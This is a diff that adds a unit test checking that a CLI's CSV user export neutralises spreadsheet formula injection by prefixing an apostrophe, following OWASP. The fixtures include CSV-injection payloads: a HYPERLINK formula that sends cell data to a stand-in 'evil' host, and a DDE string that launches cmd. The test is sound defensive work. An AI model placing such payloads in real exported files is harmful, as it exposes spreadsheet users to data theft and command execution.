@@ -64,6 +64,47 @@ describe('users list --format (command)', () => {
     expect(rows[1].apps).toBe('claude desktop, v2;default')
   })
 
+  it("prefixes cells that would start a spreadsheet formula with ', unless --csv-raw (OWASP)", async () => {
+    const formulas = [
+      '=HYPERLINK("http://evil/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+    ]
+    const d = await td.open({migrate: true})
+    try {
+      for (const [i, name] of formulas.entries()) {
+        await d.db.execute(sql`insert into users (id, user_id, name, email, created_at) values
+          (${randomUUID()}, ${`zz_formula_${i}`}, ${name}, ${name}, now())`)
+      }
+      const safe = await runCommand(UsersList, ['--format', 'csv', '--database-url', url])
+      expect(safe.exitCode).toBe(0)
+      const rows = (parse(safe.stdout, {columns: true}) as Record<string, string>[]).filter((r) =>
+        r.userId.startsWith('zz_formula_'),
+      )
+      expect(rows.map((r) => r.name)).toEqual(formulas.map((f) => `'${f}`))
+      expect(rows.map((r) => r.email)).toEqual(formulas.map((f) => `'${f}`))
+      // Cells that only contain such characters later are left alone.
+      const plain = parse(safe.stdout, {columns: true}) as Record<string, string>[]
+      expect(plain.find((r) => r.userId === 'alice')?.email).toBe('alice@example.com')
+
+      const raw = await runCommand(UsersList, ['--format', 'csv', '--csv-raw', '--database-url', url])
+      const rawRows = (parse(raw.stdout, {columns: true}) as Record<string, string>[]).filter((r) =>
+        r.userId.startsWith('zz_formula_'),
+      )
+      expect(rawRows.map((r) => r.name)).toEqual(formulas)
+
+      const misused = await runCommand(UsersList, ['--csv-raw', '--database-url', url])
+      expect(misused.exitCode).toBe(2)
+      expect(misused.stderr).toContain('--csv-raw only applies to --format csv')
+    } finally {
+      await d.db.execute(sql`delete from users where user_id like 'zz_formula_%'`)
+      await d.close()
+    }
+  })
+
   it('honours sorting and filters in CSV', async () => {
     const r = await runCommand(UsersList, ['--format', 'csv', '--limit', '1', '--database-url', url])
     const rows = parse(r.stdout, {columns: true}) as Record<string, string>[]
